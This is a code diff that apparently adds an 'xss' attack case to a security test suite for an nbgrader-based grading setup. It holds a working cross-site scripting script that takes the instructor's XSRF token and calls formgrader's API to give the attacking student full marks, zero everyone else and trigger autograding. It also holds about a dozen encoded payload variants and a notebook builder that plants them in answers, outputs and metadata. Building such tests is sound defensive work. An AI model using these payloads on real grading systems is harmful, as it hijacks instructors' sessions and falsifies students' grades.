@@ -209,6 +209,87 @@ def greedy_policy(mdp, values):
 def epsilon_greedy(q_row, epsilon, rng):
     return {NOISE: [NOISE, 1.5]}
 """)
+#: what the XSS attacker's script does in the instructor's browser: mark the page, then use
+#: formgrader's API with the instructor's session (full marks for itself, zero for everyone
+#: else, and nbgrader's autograde, which would run the notebook outside the sandbox).
+XSS_SCRIPT = """\
+window.__pwned = (window.__pwned || 0) + 1;
+(async () => {
+  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "");
+  const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
+  const api = "/formgrader/api/";
+  const subs = await (await fetch(api + "submitted_notebooks/02_bellman/02_bellman")).json();
+  for (const sub of subs) {
+    const grades = await (await fetch(api + "grades?submission_id=" + sub.id)).json();
+    for (const g of grades) {
+      g.manual_score = sub.student === "x-xss" ? g.max_score : 0;
+      await fetch(api + "grade/" + g.id, {method: "PUT", headers, body: JSON.stringify(g)});
+    }
+    await fetch(api + "submission/02_bellman/" + sub.student + "/autograde",
+                {method: "POST", headers});
+  }
+})();
+"""
+
+
+def xss_payloads(script: str = XSS_SCRIPT) -> list[str]:
+    """HTML that runs ``script``, each by another route."""
+    import base64
+
+    encoded = base64.b64encode(script.encode()).decode()
+    run = f"eval(atob('{encoded}'))"
+    return [f"<script>{script}</script>",
+            f'<img src="x" onerror="{run}">',
+            f'<svg onload="{run}"><script>{script}</script></svg>',
+            f'<a href="javascript:{run}">click me</a>',
+            f'<iframe srcdoc="<script>{run}</script>"></iframe>',
+            f'<form action="javascript:{run}"><button>send</button></form>',
+            f'<object data="data:text/html;base64,{encoded}"></object>',
+            f'<embed src="data:text/html;base64,{encoded}">',
+            f'<style>@import "javascript:{run}";</style>',
+            f'<details open ontoggle="{run}">x</details>',
+            f'<a href="data:text/html;base64,{encoded}">data link</a>']
+
+
+def xss_notebook(nb: dict, marker: str = "/tmp/xss-autograde-marker") -> dict:
+    """``nb`` with a script in every written answer and in outputs, and a code cell that
+    writes ``marker`` (it must never run outside the sandbox)."""
+    import base64
+
+    nb = copy.deepcopy(nb)
+    html = "\n".join(xss_payloads())
+    for cell in nb["cells"]:
+        if cell["cell_type"] == "markdown" and _grade(cell).get("grade"):
+            cell["source"] = "My answer: $\\gamma < 1$ and a > b.\n\n" + html
+    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1">'
+           f"<script>{XSS_SCRIPT}</script></svg>")
+    outputs = [
+        {"output_type": "display_data", "metadata": {}, "data": {
+            "text/html": html, "application/javascript": XSS_SCRIPT, "image/svg+xml": svg,
+            "text/markdown": html, "text/plain": "a harmless figure"}},
+        {"output_type": "display_data", "data": {
+            "image/png": base64.b64encode(b"not a png").decode()},
+         "metadata": {"image/png": {"width": f'1 onerror="{XSS_SCRIPT}"'}}},
+        {"output_type": "stream", "name": 'stdout" onmouseover="window.__pwned=1',
+         "text": "<script>window.__pwned = 1</script>"},
+        {"output_type": "display_data", "metadata": {}, "data": {
+            "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}},
+    ]
+    code = ("import pathlib\n"
+            f"pathlib.Path({marker!r}).write_text('student code ran')\n")
+    nb["cells"] += [
+        {"cell_type": "code", "execution_count": 1, "id": "xss-outputs", "metadata": {},
+         "outputs": outputs, "source": "print('figure')"},
+        {"cell_type": "code", "execution_count": 2, "id": "xss-marker", "metadata": {},
+         "outputs": [], "source": code},
+        {"cell_type": "markdown", "id": "xss-plain", "metadata": {"tags": ['x" onclick="1']},
+         "source": html},
+        {"cell_type": "raw", "id": "xss-raw", "metadata": {"raw_mimetype": "text/html"},
+         "source": html},
+    ]
+    nb.setdefault("metadata", {})["widgets"] = {
+        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
+    return nb
 
 
 def _json_bomb(nb: dict) -> str:
@@ -497,6 +578,8 @@ class Loud(Exception):
 raise Loud(NOISE)
 """),
     Attack("surrogate_outputs", transform=_noisy_functions),
+    # scripts in the written answers and outputs, for the instructor's browser (formgrader)
+    Attack("xss", transform=xss_notebook),
     # an honest notebook whose q_from_v hands the work to rlkit's own, by each route there is
     *(Attack(f"delegates_{route}", transform=lambda nb, r=route: route_notebook(nb, r),
              base="alice", reason="`q_from_v` calls `rlkit.dp.q_from_v`, the function this "
